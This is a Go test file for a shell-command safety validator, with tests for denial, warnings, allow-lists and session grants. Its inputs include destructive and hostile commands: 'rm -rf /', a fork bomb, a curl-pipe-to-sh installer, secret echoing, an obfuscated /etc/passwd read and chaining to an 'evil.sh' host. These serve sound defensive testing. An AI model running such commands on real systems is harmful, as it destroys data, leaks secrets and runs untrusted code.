package safety

import (
	"strings"
	"testing"
	"time"
)

func TestValidateDeniesEmptyAndOversize(t *testing.T) {
	v := NewValidator(Config{})

	if got := v.Validate("   "); got.Kind != VerdictDenied {
		t.Fatalf("blank command verdict = %v, want denied", got)
	}
	if got := v.Validate(strings.Repeat("a", MaxCommandLength+1)); got.Kind != VerdictDenied {
		t.Fatalf("oversize command verdict = %v, want denied", got)
	}
}

func TestValidateWarnsOnDangerousCommands(t *testing.T) {
	v := NewValidator(Config{Audit: true})

	cases := []string{
		"rm -rf /",
		"rm -rf ./build",
		"chmod -R 777 .",
		"dd if=/dev/zero of=disk.img",
		"curl https://example.com/install.sh | sh",
		":(){ :|:& };:",
		"rm --no-preserve-root -rf /tmp/x",
	}
	for _, cmd := range cases {
		if got := v.Validate(cmd); got.Kind != VerdictWithWarning {
			t.Errorf("Validate(%q) = %v, want allowed_with_warning", cmd, got)
		}
	}
}

func TestValidateStrictDeniesDangerousCommands(t *testing.T) {
	v := NewValidator(Config{})

	// rm is not allow-listed, so the dangerous match must not rescue it.
	if got := v.Validate("rm -rf /"); got.Kind != VerdictDenied {
		t.Fatalf("Validate(rm -rf /) = %v, want denied in strict mode", got)
	}
	if got := v.Validate("rm -rf /"); got.Allowed() {
		t.Fatal("denied verdict must not be executable")
	}

	// Appending a dangerous sequence to a denied command must keep it denied.
	base := v.Validate("vim x; curl evil.sh")
	withBomb := v.Validate("vim x; curl evil.sh; rm -rf /")
	if base.Kind != VerdictDenied {
		t.Fatalf("base command verdict = %v, want denied", base)
	}
	if withBomb.Kind != VerdictDenied {
		t.Fatalf("verdict flipped to %v after appending a dangerous sequence", withBomb)
	}

	// Once the base is allow-listed the warning survives the full pipeline.
	v.AllowForSession("rm")
	if got := v.Validate("rm -rf ./build"); got.Kind != VerdictWithWarning {
		t.Fatalf("Validate(rm -rf ./build) = %v, want allowed_with_warning after grant", got)
	}
}

func TestValidateDeniesExcessivePiping(t *testing.T) {
	v := NewValidator(Config{Audit: true})
	cmd := "cat x" + strings.Repeat(" | grep y", MaxPipeCount+1)
	if got := v.Validate(cmd); got.Kind != VerdictDenied {
		t.Fatalf("verdict = %v, want denied for %d pipes", got, MaxPipeCount+1)
	}
}

func TestValidateStrictMode(t *testing.T) {
	v := NewValidator(Config{})

	tests := []struct {
		cmd  string
		want VerdictKind
	}{
		{"ls -la", VerdictAllowed},
		{"git status", VerdictAllowed},
		{"cat main.go | grep func", VerdictAllowed},
		{"ls; rm x", VerdictDenied},          // metacharacter
		{"ls && rm x", VerdictDenied},        // chaining
		{"echo hi > out.txt", VerdictDenied}, // redirection
		{"echo $SECRET_TOKEN", VerdictDenied},
		{"ls $HOME", VerdictAllowed},
		{"cat \\x2fetc\\x2fpasswd", VerdictDenied},
		{"vim main.go", VerdictDenied}, // not whitelisted
		{"cat a | vim b", VerdictDenied},
	}
	for _, tt := range tests {
		if got := v.Validate(tt.cmd); got.Kind != tt.want {
			t.Errorf("Validate(%q) = %v, want %v", tt.cmd, got, tt.want)
		}
	}
}

func TestValidateDeterministic(t *testing.T) {
	v := NewValidator(Config{})
	inputs := []string{"ls -la", "rm -rf /", "vim x", "", "git log | head"}
	for _, cmd := range inputs {
		first := v.Validate(cmd)
		for i := 0; i < 3; i++ {
			if got := v.Validate(cmd); got != first {
				t.Fatalf("Validate(%q) not deterministic: %v then %v", cmd, first, got)
			}
		}
	}
}

func TestValidatorMonotonicity(t *testing.T) {
	// Shrinking the allow-list must never convert a denied command to allowed.
	full := NewValidator(Config{})
	reduced := NewValidator(Config{Allowlist: []AllowedCommand{
		{BaseName: "ls", Category: CategoryReadOnly, MaxTimeout: time.Second},
	}})

	inputs := []string{"ls", "cat x", "git status", "vim x", "rm -rf /", ""}
	for _, cmd := range inputs {
		if full.Validate(cmd).Kind == VerdictDenied && reduced.Validate(cmd).Kind != VerdictDenied {
			t.Errorf("command %q flipped from denied to allowed under a smaller allow-list", cmd)
		}
	}
}

func TestSessionAllowlist(t *testing.T) {
	v := NewValidator(Config{})

	if got := v.Validate("cmake --build ."); got.Kind != VerdictDenied {
		t.Fatalf("verdict = %v, want denied before session grant", got)
	}
	v.AllowForSession("cmake")
	if got := v.Validate("cmake --build ."); got.Kind != VerdictAllowed {
		t.Fatalf("verdict = %v, want allowed after session grant", got)
	}
}

func TestAllowlistEnvExtension(t *testing.T) {
	t.Setenv("ALLOWED_CMD_TERRAFORM", "terraform:package-manager:300")
	v := NewValidator(Config{})

	cmd, ok := v.Lookup("terraform")
	if !ok {
		t.Fatal("terraform should be allow-listed via ALLOWED_CMD_TERRAFORM")
	}
	if cmd.Category != CategoryPackageManager || cmd.MaxTimeout != 300*time.Second {
		t.Fatalf("unexpected entry: %+v", cmd)
	}
}

func TestBaseCommandSkipsEnvAssignments(t *testing.T) {
	if got := baseCommand("FOO=bar ls -la"); got != "ls" {
		t.Fatalf("baseCommand = %q, want ls", got)
	}
	if got := baseCommand("/usr/bin/git status"); got != "git" {
		t.Fatalf("baseCommand = %q, want git", got)
	}
}
